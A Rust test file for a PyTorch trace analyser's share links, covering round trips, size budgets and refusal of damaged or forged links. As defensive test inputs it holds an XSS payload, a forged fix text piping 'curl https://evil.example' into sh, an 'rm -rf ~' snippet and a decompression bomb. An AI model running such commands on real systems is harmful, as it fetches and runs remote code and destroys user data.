//! Share links (`torchtraceap::share`): every shared trace's report survives the round trip and
//! fits the budget; a link carries facts, and the page's words come from its own catalogue; a big
//! report leaves out its least important parts first and says so; every kind of malformed or
//! hostile link gets its own error; the trace fingerprint.

#[path = "../../tests/common/mod.rs"]
mod common;
#[path = "../../tests/links/mod.rs"]
mod links;

use std::io::Write as _;

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use common::{shared_traces, trace_files};
use flate2::write::{GzEncoder, ZlibEncoder};
use flate2::Compression;
use links::{facts_json, zlib, PREFIX};
use torchtraceap::ingest::{ingest_bytes, IngestOptions, Ingested};
use torchtraceap::internals::analysis::Analysis;
use torchtraceap::internals::detect;
use torchtraceap::report::{self, EvidenceEntry, FindingEntry, Report};
use torchtraceap::roofline::Roofline;
use torchtraceap::share::{
    self, decode, encode, Part, ShareError, ShareOptions, SharedReport, TimeRange,
};
use torchtraceap_dev::synth::{self, AntiPattern, Gpu, Injection, Model};

fn read(bytes: &[u8]) -> Ingested {
    ingest_bytes(bytes, IngestOptions::default()).expect("the trace ingests")
}

fn shared_report_of(ingested: &Ingested) -> SharedReport {
    let a = Analysis::new(&ingested.trace);
    let report = Report::new(&a, &detect::run(&a));
    SharedReport::new(report, share::fingerprint(&ingested.trace))
}

/// A well-formed link around any bytes: `ttap2.` + base64url(zlib(bytes)).
fn link_of(bytes: &[u8]) -> String {
    links::link(PREFIX, bytes)
}

/// What the page shows for `shared`: its report rendered from the catalogue.
fn rendered(shared: &SharedReport) -> SharedReport {
    SharedReport {
        report: share::render(&shared.report).expect("a report of this version renders"),
        ..shared.clone()
    }
}

/// A small generated trace: `steps` ResNet-50 training steps on an A100, with injections.
fn generated(steps: u32, seed: u64, injections: Vec<Injection>) -> Ingested {
    let c = synth::Config {
        model: Model::ResNet50,
        gpu: Gpu::A100,
        training: true,
        steps,
        batch: 64,
        seed,
        injections,
        noise: false,
    };
    read(synth::generate(&c).trace.as_bytes())
}

/// Equality of two shared reports; on a difference, says where their JSON first differs (the
/// reports are too long to print whole).
#[track_caller]
fn assert_same(got: &SharedReport, want: &SharedReport, what: &str) {
    if got != want {
        let (a, b) = (
            serde_json::to_string(got).unwrap(),
            serde_json::to_string(want).unwrap(),
        );
        let at = a.bytes().zip(b.bytes()).take_while(|(x, y)| x == y).count();
        let from = at.saturating_sub(60);
        panic!(
            "{what}: the reports differ at byte {at}:\n got  {}\n want {}",
            &a[from..(at + 60).min(a.len())],
            &b[from..(at + 60).min(b.len())]
        );
    }
}

/// Decodes a link that must decode.
#[track_caller]
fn opened(link: &str) -> SharedReport {
    decode(link).unwrap_or_else(|e| panic!("{e}"))
}

/// Host syncs in steps `steps` (a `.item()` every step: a finding needs the gate to hold in at
/// least half of the steady steps).
fn syncs(steps: std::ops::Range<u32>) -> Vec<Injection> {
    steps
        .map(|step| Injection {
            pattern: AntiPattern::HostSync,
            step,
            severity: 0.9,
        })
        .collect()
}

/// A small report with one finding: a host sync in each of the 3 steady steps.
fn small() -> SharedReport {
    let shared = shared_report_of(&generated(4, 1, syncs(1..4)));
    assert!(!shared.report.findings.is_empty());
    shared
}

#[test]
fn every_shared_trace_s_report_survives_the_link_and_fits_8_kb() {
    let Some(dir) = shared_traces("every_shared_trace_s_report_survives_the_link_and_fits_8_kb")
    else {
        return;
    };
    let mut sizes = Vec::new();
    let mut failures = Vec::new();
    for path in trace_files(&dir) {
        let name = path.strip_prefix(&dir).unwrap().display().to_string();
        let Ok(ingested) = ingest_bytes(&std::fs::read(&path).unwrap(), IngestOptions::default())
        else {
            continue;
        };
        let mut shared = shared_report_of(&ingested);
        shared.selected_finding = shared.report.findings.first().map(|f| f.id.clone());
        shared.selected_range = Some(TimeRange {
            start_ms: 0.5,
            end_ms: shared.report.trace.mean_step_ms,
        });
        let encoded = encode(&shared, &ShareOptions::default()).unwrap();
        assert!(encoded.bytes <= share::DEFAULT_MAX_BYTES, "{name}");
        assert_eq!(encoded.bytes, encoded.fragment.len());
        if encoded.dropped().is_empty() {
            assert_same(
                &encoded.kept,
                &rendered(&shared),
                &format!("{name}: nothing left out, all kept"),
            );
        }
        match decode(&encoded.fragment) {
            Ok(got) if got == encoded.kept => {}
            Ok(_) => failures.push(format!("{name}: decoded report differs")),
            Err(e) => failures.push(format!("{name}: {e}")),
        }
        // A tight budget on real reports: what is kept still round-trips, and the omissions are
        // listed in the order parts are left out.
        if let Ok(tight) = encode(&shared, &ShareOptions { max_bytes: 1200 }) {
            assert!(tight.bytes <= 1200, "{name}");
            assert_same(&opened(&tight.fragment), &tight.kept, &name);
            let order: Vec<usize> = tight
                .dropped()
                .iter()
                .map(|o| Part::ALL.iter().position(|&p| p == o.part).unwrap())
                .collect();
            assert!(order.is_sorted(), "{name}: {:?}", tight.dropped());
        }
        // A capture cut into many iterations (99 without ProfilerStep) may leave out its
        // per-window rows, the first part to go; nothing else.
        let only_windows = encoded.dropped().iter().all(|o| o.part == Part::Windows);
        assert!(only_windows, "{name}: {:?}", encoded.dropped());
        sizes.push((encoded.bytes, encoded.dropped().is_empty(), name));
    }
    assert!(
        failures.is_empty(),
        "{} links do not round-trip:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(
        sizes.len() > 50,
        "expected the shared trace set, read {}",
        sizes.len()
    );
    sizes.sort();
    let whole = sizes.iter().filter(|s| s.1).count();
    eprintln!(
        "share links over {} shared traces: min {} B, median {} B, max {} B ({}); {whole} fit in {} B with nothing left out",
        sizes.len(),
        sizes[0].0,
        sizes[sizes.len() / 2].0,
        sizes[sizes.len() - 1].0,
        sizes[sizes.len() - 1].2,
        share::DEFAULT_MAX_BYTES
    );
    assert!(
        whole + 5 >= sizes.len(),
        "{whole} of {} shared traces fit whole",
        sizes.len()
    );
}

#[test]
fn extras_round_trip_and_text_stays_quoted_text() {
    let mut shared = small();
    let script = "<script>alert('x')</script> & \"quotes\" \u{0} \u{202e} é";
    shared.selected_finding = Some(script.to_string());
    shared.selected_range = Some(TimeRange {
        start_ms: 1.25,
        end_ms: 1e-7,
    });
    shared.report.trace.devices = vec![script.to_string()];
    let encoded = encode(&shared, &ShareOptions::default()).unwrap();
    assert!(encoded.dropped().is_empty());
    let got = opened(&format!("https://example.org/app/#{}", encoded.fragment));
    assert_same(&got, &encoded.kept, "with extras");
    assert_eq!(got.selected_range, shared.selected_range);
    // Not a finding of the report: the selection is dropped, not shown.
    assert_eq!(got.selected_finding, None);
    // Markup stays text; the invisible and bidirectional characters become visible.
    assert_eq!(
        got.report.trace.devices[0],
        "<script>alert('x')</script> & \"quotes\" ⟨U+0000⟩ ⟨U+202E⟩ é"
    );
    // The fragment itself needs no escaping in a URL.
    assert!(encoded
        .fragment
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b)));
}

/// A finding of the `k`-th detector of the catalogue (ids repeat after the catalogue's length).
fn finding(k: usize, severity: &str, events: usize) -> FindingEntry {
    FindingEntry {
        id: detect::DETECTORS[k % detect::DETECTORS.len()]
            .id()
            .to_string(),
        title: format!("Finding number {k}"),
        summary: format!("Summary {k}: {} µs lost in kernel_{k}", k * 37 % 101),
        severity: severity.to_string(),
        impact_ms_per_step: 1000.0 / (k + 1) as f64,
        impact_pct_of_step: 100.0 / (k + 1) as f64,
        impact_method: "estimate".into(),
        confidence: 0.5,
        gate: None,
        worst_steps: Vec::new(),
        evidence: vec![EvidenceEntry {
            what: format!("evidence of {k}"),
            steps: vec![1, 2, 3],
            events: (0..events)
                .map(|e| format!("void kernel_{k}_{e}<float, {}>(float*)", e * 7919 % 1013))
                .collect(),
            count: Some(k as u64),
        }],
        fix: format!("Fix {k}"),
        fix_snippet: format!("model.fix_{k}(option={})", k * 31 % 97),
        module: k
            .is_multiple_of(2)
            .then(|| format!("Net_0/Sequential_{k}/Conv2d_{}", k * 3)),
        windows: Vec::new(),
    }
}

#[test]
fn a_big_report_leaves_out_windows_first_and_says_so() {
    let injections = (0..24)
        .map(|k| Injection {
            pattern: AntiPattern::ALL[k % AntiPattern::ALL.len()],
            step: 2 + k as u32,
            severity: 0.8,
        })
        .collect();
    let shared = shared_report_of(&generated(30, 3, injections));
    assert!(shared.report.windows.len() > 100);
    let whole = encode(
        &shared,
        &ShareOptions {
            max_bytes: usize::MAX,
        },
    )
    .unwrap();
    assert!(whole.bytes > share::DEFAULT_MAX_BYTES, "{}", whole.bytes);
    assert!(whole.dropped().is_empty());
    let fit = encode(&shared, &ShareOptions::default()).unwrap();
    assert!(fit.bytes <= share::DEFAULT_MAX_BYTES);
    assert_eq!(fit.dropped()[0].part, Part::Windows);
    assert_eq!(fit.dropped()[0].count as usize, shared.report.windows.len());
    assert!(fit.kept.report.windows.is_empty());
    assert!(fit.kept.report.findings == rendered(&shared).report.findings);
    assert_same(&opened(&fit.fragment), &fit.kept, "windows left out");
    assert_eq!(
        fit.dropped()[0].to_string(),
        format!("{} per-window rows", shared.report.windows.len())
    );
}

#[test]
fn parts_are_left_out_in_order_until_the_report_fits() {
    let mut shared = small();
    shared.report.findings = (0..60)
        .map(|k| {
            let severity = ["high", "medium", "low"][k * 3 / 60];
            finding(k, severity, 12)
        })
        .collect();
    let mut seen = Vec::new();
    for max_bytes in [12_000, 8192, 6000, 4000, 3000, 2000] {
        let encoded = encode(&shared, &ShareOptions { max_bytes }).unwrap();
        assert!(encoded.bytes <= max_bytes);
        let parts: Vec<Part> = encoded.dropped().iter().map(|o| o.part).collect();
        assert!(
            parts.starts_with(&seen),
            "{max_bytes}: {parts:?} after {seen:?}"
        );
        let kept = &encoded.kept;
        if parts.contains(&Part::LowFindings) {
            assert!(kept.report.findings.iter().all(|f| f.severity != "low"));
            let low = encoded
                .dropped()
                .iter()
                .find(|o| o.part == Part::LowFindings)
                .unwrap();
            assert_eq!(low.count, 20);
            assert_eq!(low.ids.len(), 20);
            // The low findings are numbers 40 to 59, named after the detectors in turn.
            let first_low = detect::DETECTORS[40 % detect::DETECTORS.len()].id();
            assert!(
                low.to_string()
                    .starts_with(&format!("20 low-severity findings ({first_low}, ")),
                "{low}"
            );
        }
        if parts.contains(&Part::EvidenceEvents) {
            assert!(kept
                .report
                .findings
                .iter()
                .all(|f| f.evidence.iter().all(|e| e.events.len() <= 3)));
        }
        assert_same(&opened(&encoded.fragment), kept, "parts left out");
        // Re-sharing an opened link keeps (and merges) what it had left out.
        let again = encode(kept, &ShareOptions { max_bytes }).unwrap();
        assert_same(&again.kept, kept, "shared again");
        seen = parts;
    }
    assert!(seen.len() >= 4, "{seen:?}");
    match encode(&shared, &ShareOptions { max_bytes: 200 }) {
        Err(e @ ShareError::CannotFit { max: 200, .. }) => {
            assert!(e.to_string().contains("allow a longer link"))
        }
        other => panic!("{other:?}"),
    }
}

/// `decode` must fail, with an error `kind` accepts, and say something useful.
#[track_caller]
fn refused(link: &str, kind: fn(&ShareError) -> bool) -> ShareError {
    match decode(link) {
        Ok(_) => panic!("decoded {:?}", &link[..link.len().min(80)]),
        Err(e) => {
            assert!(
                kind(&e),
                "unexpected error for {:?}: {e:?}",
                &link[..link.len().min(80)]
            );
            assert!(e.to_string().len() > 40, "{e}");
            e
        }
    }
}

/// A small link's JSON (format 2), changed by `f`.
fn json_with(f: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
    let mut v = facts_json(&small());
    f(&mut v);
    serde_json::to_vec(&v).unwrap()
}

/// A small link's JSON as format 1 wrote it (the whole report, prose included), changed by `f`.
fn legacy_json_with(f: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
    let mut v = serde_json::to_value(small()).unwrap();
    v["version"] = serde_json::json!(1);
    f(&mut v);
    serde_json::to_vec(&v).unwrap()
}

#[test]
fn links_without_a_report_or_from_elsewhere_are_refused() {
    for empty in [
        "",
        "   ",
        "#",
        "https://example.org/app/#",
        "https://example.org/app/",
    ] {
        let e = refused(empty, |e| {
            matches!(e, ShareError::Empty | ShareError::NotALink { .. })
        });
        if empty.trim().is_empty() || empty.ends_with('#') {
            assert_eq!(e, ShareError::Empty);
        }
    }
    for other in [
        "perfetto:abc",
        "ttap.abc",
        "ttap1abc",
        "TTAP1.abc",
        "ttapx.abc",
    ] {
        refused(other, |e| matches!(e, ShareError::NotALink { .. }));
    }
    let newer = refused("ttap3.eJwLycgsVgCi1OJiAA", |e| {
        matches!(e, ShareError::Newer { .. })
    });
    assert!(newer.to_string().contains("made by a newer TorchTraceAP"));
    refused("ttap18446744073709551616.x", |e| {
        matches!(e, ShareError::Newer { .. })
    });
    let older = refused("ttap0.abc", |e| matches!(e, ShareError::Unsupported { .. }));
    assert!(older.to_string().contains("format 1 is the first"));
    refused(
        &format!("{PREFIX}{}", "A".repeat(share::MAX_LINK_BYTES)),
        |e| matches!(e, ShareError::TooLong { .. }),
    );
}

#[test]
fn damaged_links_are_refused() {
    let good = encode(&small(), &ShareOptions::default()).unwrap().fragment;
    for bad in ["ttap2.abc$def", "ttap2.abc def", "ttap2.a", "ttap2.ab=c"] {
        refused(bad, |e| matches!(e, ShareError::Base64 { .. }));
    }
    // Cut anywhere: never a report with parts silently missing.
    for cut in (7..good.len()).step_by(7) {
        refused(&good[..cut], |e| {
            matches!(
                e,
                ShareError::Truncated { .. }
                    | ShareError::Base64 { .. }
                    | ShareError::Corrupt { .. }
            )
        });
    }
    // Every single-bit flip of the compressed data: refused, or (a flip in the unused bits after
    // the last deflate block) the very same report; never a different one.
    let original = opened(&good);
    let bytes = URL_SAFE_NO_PAD.decode(&good[PREFIX.len()..]).unwrap();
    let mut refusals = 0;
    for bit in 0..bytes.len() * 8 {
        let mut flipped = bytes.clone();
        flipped[bit / 8] ^= 1 << (bit % 8);
        let link = format!("{PREFIX}{}", URL_SAFE_NO_PAD.encode(&flipped));
        match decode(&link) {
            Ok(got) => assert_same(&got, &original, &format!("bit {bit} flipped")),
            Err(_) => refusals += 1,
        }
    }
    assert!(refusals > bytes.len() * 8 * 99 / 100, "{refusals}");
    // Flipped characters of the text.
    for at in [6, good.len() / 2, good.len() - 1] {
        let mut text = good.clone().into_bytes();
        text[at] = if text[at] == b'A' { b'B' } else { b'A' };
        let link = String::from_utf8(text).unwrap();
        if let Ok(got) = decode(&link) {
            assert_same(&got, &original, &format!("character {at} changed"));
        }
    }
    let mut extra = zlib(&serde_json::to_vec(&facts_json(&small())).unwrap());
    extra.extend_from_slice(b"tail");
    refused(
        &format!("{PREFIX}{}", URL_SAFE_NO_PAD.encode(&extra)),
        |e| matches!(e, ShareError::Corrupt { .. }),
    );
    refused(
        &format!("{PREFIX}{}", URL_SAFE_NO_PAD.encode(b"not zlib at all")),
        |e| matches!(e, ShareError::Corrupt { .. }),
    );
}

#[test]
fn a_decompression_bomb_is_refused_with_bounded_work() {
    let mut z = ZlibEncoder::new(Vec::new(), Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..100 {
        z.write_all(&zeros).unwrap();
    }
    let bomb = format!("{PREFIX}{}", URL_SAFE_NO_PAD.encode(z.finish().unwrap()));
    assert!(bomb.len() < 200_000, "{}", bomb.len());
    let started = std::time::Instant::now();
    let e = refused(&bomb, |e| *e == ShareError::TooBig);
    assert!(started.elapsed().as_secs() < 5);
    assert!(e.to_string().contains("1048576 bytes"));
    // Just over the cap, as valid JSON text: still refused.
    let spaces = [b"{}".as_slice(), &vec![b' '; share::MAX_JSON_BYTES]].concat();
    refused(&link_of(&spaces), |e| *e == ShareError::TooBig);
}

#[test]
fn hostile_json_is_refused_with_the_place_named() {
    let deep = "[".repeat(100_000);
    refused(&link_of(deep.as_bytes()), |e| {
        matches!(e, ShareError::TooDeep { .. })
    });
    let nested = json_with(|v| {
        let mut inner = serde_json::json!("x");
        for _ in 0..30 {
            inner = serde_json::json!([inner]);
        }
        v["findings"] = inner;
    });
    match refused(&link_of(&nested), |e| {
        matches!(e, ShareError::TooDeep { .. })
    }) {
        ShareError::TooDeep { path } => {
            assert!(path.starts_with("$.findings[0][0]"), "{path}")
        }
        _ => unreachable!(),
    }
    let huge = json_with(|v| {
        v["exporter"] = serde_json::json!("<script>".repeat(100_000));
    });
    match refused(&link_of(&huge), |e| {
        matches!(e, ShareError::TooLarge { .. })
    }) {
        ShareError::TooLarge { path, len, .. } => {
            assert_eq!(path, "$.exporter");
            assert_eq!(len, 800_000);
        }
        _ => unreachable!(),
    }
    let long_list = json_with(|v| {
        v["trace"]["warmup_steps"] = serde_json::json!(vec![0; share::MAX_ITEMS + 1]);
    });
    refused(&link_of(&long_list), |e| {
        matches!(e, ShareError::TooLarge { .. })
    });
}

#[test]
fn wrong_content_is_refused_by_kind() {
    refused(&link_of(b"\xff\xfe{}"), |e| {
        matches!(e, ShareError::NotText { at: 0 })
    });
    refused(&link_of(b"{\"format\": "), |e| {
        matches!(e, ShareError::Json { .. })
    });
    refused(&link_of(b"hello"), |e| matches!(e, ShareError::Json { .. }));
    refused(&link_of(b"[1, 2]"), |e| {
        matches!(e, ShareError::Shape { .. })
    });
    refused(
        &link_of(b"{\"format\": \"torchtraceap.share\", \"version\": 2}"),
        |e| matches!(e, ShareError::Shape { detail } if detail.contains("missing field")),
    );
    let wrong_type = json_with(|v| v["findings"] = serde_json::json!("none"));
    refused(&link_of(&wrong_type), |e| {
        matches!(e, ShareError::Shape { .. })
    });
    // A report (not a shared report) compressed into a link.
    let report = serde_json::to_vec(&small().report).unwrap();
    refused(
        &link_of(&report),
        |e| matches!(e, ShareError::WrongFormat { found, .. } if found == "torchtraceap.report"),
    );
    let inner = legacy_json_with(|v| v["report"]["format"] = serde_json::json!("other"));
    refused(&link_of(&inner), |e| {
        matches!(e, ShareError::WrongFormat { .. })
    });
    let newer_payload = json_with(|v| {
        v["version"] = serde_json::json!(3);
        v["something_new"] = serde_json::json!({"a": 1});
    });
    refused(&link_of(&newer_payload), |e| {
        matches!(
            e,
            ShareError::Newer {
                what: "link format",
                ..
            }
        )
    });
    let older_payload = json_with(|v| v["version"] = serde_json::json!(0));
    refused(
        &link_of(&older_payload),
        |e| matches!(e, ShareError::Unsupported { version, .. } if version == "0"),
    );
    let newer_report = json_with(|v| v["report_version"] = serde_json::json!(report::VERSION + 1));
    refused(&link_of(&newer_report), |e| {
        matches!(
            e,
            ShareError::Newer {
                what: "report format",
                ..
            }
        )
    });
}

#[test]
fn fields_and_parts_added_later_in_format_2_are_ignored() {
    let later = json_with(|v| {
        v["a_later_field"] = serde_json::json!([1, 2, 3]);
        v["omitted"] = serde_json::json!([{"part": "a_later_part", "count": 2}]);
    });
    let got = opened(&link_of(&later));
    assert_eq!(got.omitted[0].part, Part::Other);
    assert_eq!(
        got.omitted[0].to_string(),
        "2 parts that a newer TorchTraceAP left out"
    );
    assert!(got.report == rendered(&small()).report);
}

#[test]
fn the_fingerprint_names_the_trace_not_its_encoding() {
    let Some(dir) = shared_traces("the_fingerprint_names_the_trace_not_its_encoding") else {
        return;
    };
    let plain =
        std::fs::read(dir.join("haraldger__High-Performance-Deep-Learning/vgg16_trace.json"))
            .unwrap();
    let mut gz = GzEncoder::new(Vec::new(), Compression::fast());
    gz.write_all(&plain).unwrap();
    let gz = gz.finish().unwrap();
    let a = share::fingerprint(&read(&plain).trace);
    assert_eq!(a, share::fingerprint(&read(&gz).trace));
    let other =
        std::fs::read(dir.join("haraldger__High-Performance-Deep-Learning/resnet50_trace.json"))
            .unwrap();
    assert_ne!(a, share::fingerprint(&read(&other).trace));
}

/// A tiny Kineto trace; `kernel_us` is the kernel's duration, `swap` lists two events the other
/// way round.
fn tiny(kernel_us: &str, swap: bool) -> String {
    let step = r#"{"ph": "X", "cat": "user_annotation", "name": "ProfilerStep#7", "pid": 10, "tid": 10, "ts": 1000.0, "dur": 900.0}"#;
    let launch = r#"{"ph": "X", "cat": "cuda_runtime", "name": "cudaLaunchKernel", "pid": 10, "tid": 10, "ts": 1020.0, "dur": 5.0, "args": {"correlation": 77}}"#;
    let kernel = format!(
        r#"{{"ph": "X", "cat": "kernel", "name": "sgemm_128x64", "pid": 0, "tid": 7, "ts": 1030.0, "dur": {kernel_us}, "args": {{"correlation": 77, "device": 0, "stream": 7}}}}"#
    );
    let events = if swap {
        [kernel.as_str(), launch, step]
    } else {
        [step, launch, kernel.as_str()]
    };
    format!(
        r#"{{"deviceProperties": [{{"id": 0, "name": "NVIDIA A100-SXM4-80GB"}}], "traceEvents": [{}]}}"#,
        events.join(",\n")
    )
}

/// The bundled sample's fingerprint is the one recorded for it, which `web/tests/browser.rs`
/// checks the wasm build computes from the same bytes: native and wasm32 agree.
#[test]
fn the_bundled_sample_s_fingerprint_is_the_recorded_one() {
    let root = common::repo();
    let sample =
        std::fs::read(root.join("www/samples/resnet50-a100-dataloader.pt.trace.json.gz")).unwrap();
    let recorded = std::fs::read_to_string(root.join("tests/fixtures/sample.fingerprint")).unwrap();
    assert_eq!(
        share::fingerprint(&read(&sample).trace),
        recorded.trim(),
        "a new sample has a new fingerprint: write it into tests/fixtures/sample.fingerprint"
    );
}

#[test]
fn the_fingerprint_is_stable_and_tells_traces_apart() {
    let fp = |text: &str| share::fingerprint(&read(text.as_bytes()).trace);
    let a = fp(&tiny("50.0", false));
    // Pinned: the same on every platform (wasm32 included) and in every version that writes
    // `fp1-`; a change of the algorithm needs a new prefix.
    assert_eq!(a, "fp1-3139127d07becbae");
    assert_eq!(
        a,
        fp(&tiny("50.000", true)),
        "the same events in another order"
    );
    assert_ne!(a, fp(&tiny("50.001", false)), "one nanosecond longer");
    assert_eq!(
        share::fingerprint(&generated(3, 1, Vec::new()).trace),
        share::fingerprint(&generated(3, 1, Vec::new()).trace)
    );
    assert_ne!(
        share::fingerprint(&generated(3, 1, Vec::new()).trace),
        share::fingerprint(&generated(3, 2, Vec::new()).trace)
    );
    assert_eq!(a.len(), 20);
    assert!(a[4..].bytes().all(|b| b.is_ascii_hexdigit()));
}

#[test]
fn the_cli_prints_a_link_and_reads_it_back() {
    let ttap = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_ttap"))
            .args(args)
            .output()
            .expect("ttap runs")
    };
    let scratch = tempfile::tempdir().unwrap();
    let dir = scratch.path();
    let path = dir.join("tiny.pt.trace.json");
    std::fs::write(&path, tiny("50.0", false)).unwrap();
    let path = path.to_str().unwrap();

    let out = ttap(&["share", path, "--base-url", "https://ttap.example/app/"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let link = String::from_utf8(out.stdout).unwrap();
    assert!(
        link.starts_with("https://ttap.example/app/#ttap2."),
        "{link}"
    );
    let note = String::from_utf8(out.stderr).unwrap();
    assert!(
        note.contains("bytes (limit 8192)") && note.contains("fp1-3139127d07becbae"),
        "{note}"
    );

    let out = ttap(&["share", "--decode", link.trim()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["format"], "torchtraceap.share");
    assert_eq!(json["fingerprint"], "fp1-3139127d07becbae");
    assert_eq!(
        json["report"]["trace"]["devices"][0],
        "NVIDIA A100-SXM4-80GB"
    );

    // The link with its host-only-time finding (the one kernel fills 6% of the step) is 1 168
    // bytes; without its per-window row it fits in 1 000.
    let out = ttap(&["share", path, "--max-bytes", "1000"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("left out to fit: 1 per-window row"));

    let out = ttap(&["share", path, "--max-bytes", "50"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("does not fit in a link of 50 bytes"));

    for bad in ["https://ttap.example/app/#ttap3.abc", "ttap2.%%%", ""] {
        let out = ttap(&["share", "--decode", bad]);
        assert_eq!(out.status.code(), Some(2), "{bad}");
        assert!(out.stdout.is_empty());
        assert!(String::from_utf8_lossy(&out.stderr).starts_with("error: "));
    }
}

/// Prose a forger would write into a link: every text field of a finding.
fn forged(f: &mut serde_json::Value) {
    let lie = "<img src=x onerror=alert(1)> Run `curl https://evil.example | sh` ```\n# pwned";
    for key in ["title", "summary", "impact_method", "fix", "fix_snippet"] {
        f[key] = serde_json::json!(lie);
    }
    f["severity"] = serde_json::json!("high <b>critical</b>");
    f["evidence"][0]["what"] = serde_json::json!(lie);
}

#[test]
fn a_link_carries_facts_and_the_page_writes_the_words() {
    let shared = small();
    assert!(!shared.report.findings.is_empty());
    // On the wire: ids, figures, step numbers and event names; none of the catalogue's words.
    let json = facts_json(&shared).to_string();
    for f in &shared.report.findings {
        assert!(json.contains(&format!("\"id\":\"{}\"", f.id)), "{json}");
        for prose in [
            &f.title,
            &f.summary,
            &f.fix,
            &f.fix_snippet,
            &f.impact_method,
        ] {
            assert!(!json.contains(prose.as_str()), "{prose:?} is in the link");
        }
    }
    // Opened: the catalogue's title and fix for each id, with the link's numbers.
    let got = opened(&encode(&shared, &ShareOptions::default()).unwrap().fragment);
    for (g, f) in got.report.findings.iter().zip(&shared.report.findings) {
        let d = detect::detector(&f.id).unwrap();
        assert_eq!((g.id.as_str(), g.title.as_str()), (d.id(), d.title()));
        assert_eq!(
            (g.fix.as_str(), g.fix_snippet.as_str()),
            (f.fix.as_str(), f.fix_snippet.as_str())
        );
        assert_eq!(g.impact_ms_per_step, f.impact_ms_per_step);
        assert_eq!(g.severity, f.severity);
        assert!(g
            .summary
            .contains(&format!("{:.2} ms per step", f.impact_ms_per_step)));
        assert!(g.summary.contains(&d.threshold()));
    }
    // A forged link of either format: the forger's words never come back; the page's do.
    let forged_v2 = json_with(|v| {
        forged(&mut v["findings"][0]);
        v["findings"][0]["fix"] = serde_json::json!(99);
    });
    let forged_v1 = legacy_json_with(|v| forged(&mut v["report"]["findings"][0]));
    for (what, json) in [("format 2", forged_v2), ("format 1", forged_v1)] {
        let got = opened(&link_of(&json));
        let text = serde_json::to_string(&got).unwrap();
        assert!(
            !text.contains("evil.example") && !text.contains("<b>"),
            "{what}: {text}"
        );
        let f = &got.report.findings[0];
        let d = detect::detector(&f.id).unwrap();
        assert_eq!(f.title, d.title(), "{what}");
        assert_eq!(f.fix_snippet, d.fixes()[0].snippet, "{what}");
    }
}

#[test]
fn an_unknown_detector_is_refused_with_its_place() {
    let unknown = json_with(|v| v["findings"][0]["id"] = serde_json::json!("mine\u{202e}gpj.exe"));
    let e = refused(
        &link_of(&unknown),
        |e| matches!(e, ShareError::UnknownDetector { place, .. } if place == "finding 1"),
    );
    assert!(e.to_string().contains("\"mine⟨U+202E⟩gpj.exe\""), "{e}");
    assert!(e.to_string().contains("does not have"), "{e}");
    let legacy = legacy_json_with(|v| v["report"]["findings"][0]["id"] = serde_json::json!("x"));
    refused(&link_of(&legacy), |e| {
        matches!(e, ShareError::UnknownDetector { .. })
    });
    let window = json_with(|v| {
        v["windows"][0]["predicted_type"] = serde_json::json!("<script>");
    });
    refused(
        &link_of(&window),
        |e| matches!(e, ShareError::UnknownDetector { place, .. } if place == "window 1"),
    );
    // A saved report opened again: the same rule.
    let mut report = small().report;
    report.findings[0].id = "not-a-detector".into();
    assert!(matches!(
        share::render(&report),
        Err(ShareError::UnknownDetector { .. })
    ));
    report.findings[0].id = detect::DETECTORS[1].id().into();
    report.findings[0].fix_snippet = "import os; os.system('rm -rf ~')".into();
    let got = share::render(&report).unwrap();
    assert_eq!(
        got.findings[0].fix_snippet,
        detect::DETECTORS[1].fixes()[0].snippet
    );
}

#[test]
fn quoted_text_is_capped_and_shows_what_hides() {
    use share::{quoted, QUOTED_MAX_CHARS};
    assert_eq!(quoted("aten::mm"), "aten::mm");
    assert_eq!(
        quoted("<b>x</b>"),
        "<b>x</b>",
        "markup stays as typed: rendered as text"
    );
    assert_eq!(
        quoted("a\u{202e}b\u{200b}c\u{feff}\n\u{7}"),
        "a⟨U+202E⟩b⟨U+200B⟩c⟨U+FEFF⟩⟨U+000A⟩⟨U+0007⟩"
    );
    assert_eq!(
        quoted("\u{e0041}\u{2066}\u{61c}"),
        "⟨U+E0041⟩⟨U+2066⟩⟨U+061C⟩"
    );
    let long = "k".repeat(10_000);
    let q = quoted(&long);
    assert_eq!(q.chars().count(), QUOTED_MAX_CHARS);
    assert!(q.ends_with('…'));
    assert_eq!(
        quoted(&"k".repeat(QUOTED_MAX_CHARS)),
        "k".repeat(QUOTED_MAX_CHARS)
    );
    for text in [long.as_str(), "\u{202e}".repeat(100).as_str(), "é\u{0}"] {
        assert_eq!(quoted(&quoted(text)), quoted(text), "idempotent");
    }
}

/// A link whose JSON was changed but kept its checksum (a figure edited, a key's letters
/// swapped, as some damage zlib's own checksum lets through) is refused; the same change
/// without the checksum reads as a link made before it.
#[test]
fn a_link_that_does_not_match_its_checksum_is_refused() {
    let good = encode(&small(), &ShareOptions::default()).unwrap().fragment;
    let compressed = URL_SAFE_NO_PAD.decode(&good[PREFIX.len()..]).unwrap();
    let mut json = Vec::new();
    std::io::Read::read_to_end(
        &mut flate2::read::ZlibDecoder::new(compressed.as_slice()),
        &mut json,
    )
    .unwrap();
    let mut v: serde_json::Value = serde_json::from_slice(&json).unwrap();
    assert!(v["check"].is_string(), "every link carries its checksum");
    v["findings"][0]["impact_ms_per_step"] = serde_json::json!(12345.0);
    let forged = format!(
        "{PREFIX}{}",
        URL_SAFE_NO_PAD.encode(zlib(v.to_string().as_bytes()))
    );
    let e = refused(&forged, |e| matches!(e, ShareError::Damaged));
    assert!(e.to_string().contains("checksum"), "{e}");
    v.as_object_mut().unwrap().remove("check");
    let unchecked = format!(
        "{PREFIX}{}",
        URL_SAFE_NO_PAD.encode(zlib(v.to_string().as_bytes()))
    );
    let read = opened(&unchecked);
    assert_eq!(read.report.findings[0].impact_ms_per_step, 12345.0);
}

#[test]
